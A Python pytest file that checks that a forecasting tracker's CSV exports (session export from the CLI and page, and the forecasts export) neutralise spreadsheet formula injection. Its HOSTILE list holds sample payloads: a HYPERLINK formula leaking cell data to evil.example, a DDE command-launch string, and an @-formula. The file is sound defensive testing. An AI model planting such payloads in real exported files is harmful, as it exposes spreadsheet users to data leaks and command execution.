"""Every CSV download is formula-safe: the session export (CLI and page) as the forecasts export."""

import csv
import io

import pytest
from typer.testing import CliRunner

from tests.support import make_user, question_data
from tracker.cli import app
from tracker.db import Database
from tracker.interchange import csv_text
from tracker.schemas import ForecastCreate
from tracker.services import forecasts, questions, sessions

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.fixture
def revealed_session(env_db):
    runner = CliRunner()
    assert runner.invoke(app, ["init"]).exit_code == 0
    db = Database(env_db)
    admin = make_user(db, "admin", "admin")
    alice, bob = make_user(db, "alice"), make_user(db, "bob")
    options = [HOSTILE[2], "-1 or less", "Something else"]
    questions.create_question(
        db, admin, question_data(id="mc", type="multiple_choice", options=options)
    )
    record = sessions.create_session(
        db,
        alice,
        sessions.SessionCreate(title="t", question_ids=["mc"], participants=["alice", "bob"]),
    )
    for who, rationale in ((alice, HOSTILE[0]), (bob, HOSTILE[1])):
        forecasts.log_forecast(
            db,
            who,
            ForecastCreate(
                question_id="mc",
                probabilities=dict(zip(options, (0.5, 0.25, 0.25), strict=True)),
                rationale=rationale,
            ),
        )
    sessions.advance_phase(db, alice, record.id, "reveal")
    yield db, admin, record.id
    db.dispose()


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_formula_safe(text: str) -> None:
    found = cells(text)
    for hostile in HOSTILE:
        assert hostile not in found and "'" + hostile in found
    assert not [c for c in found if c[:1] in ("=", "+", "@", "-")]


def test_session_csv_from_the_cli_is_formula_safe(revealed_session):
    _, _, session_id = revealed_session
    result = CliRunner().invoke(app, ["sessions", "export", str(session_id), "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_formula_safe(result.stdout)


def test_session_csv_of_the_page_and_the_forecasts_csv_are_formula_safe(revealed_session):
    db, admin, session_id = revealed_session
    forecasts.log_forecast(
        db, admin, ForecastCreate(question_id="mc", probabilities={HOSTILE[2]: 1.0,
                                                                   "-1 or less": 0.0,
                                                                   "Something else": 0.0})
    )  # fmt: skip
    assert_formula_safe(sessions.export_csv(db, admin, session_id))
    result = CliRunner().invoke(app, ["export", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert_formula_safe(result.stdout)


def test_the_one_writer_quotes_every_text_cell_and_keeps_numbers_whole():
    text = csv_text(["a", "b"], [["=1+1", 0.1 + 0.2], ["plain", 3]])
    assert cells(text) == ["a", "b", "'=1+1", "0.30000000000000004", "plain", "3"]
